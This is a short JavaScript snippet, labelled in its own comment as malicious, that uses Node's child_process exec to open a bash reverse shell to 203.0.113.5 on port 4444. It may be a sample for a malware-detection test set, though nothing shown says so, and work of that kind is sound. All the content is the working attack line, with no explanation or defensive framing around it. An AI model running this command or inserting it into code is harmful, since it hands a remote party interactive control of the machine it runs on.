// malicious: reverse shell by bash
const { exec } = require('child_process');
exec("bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'");
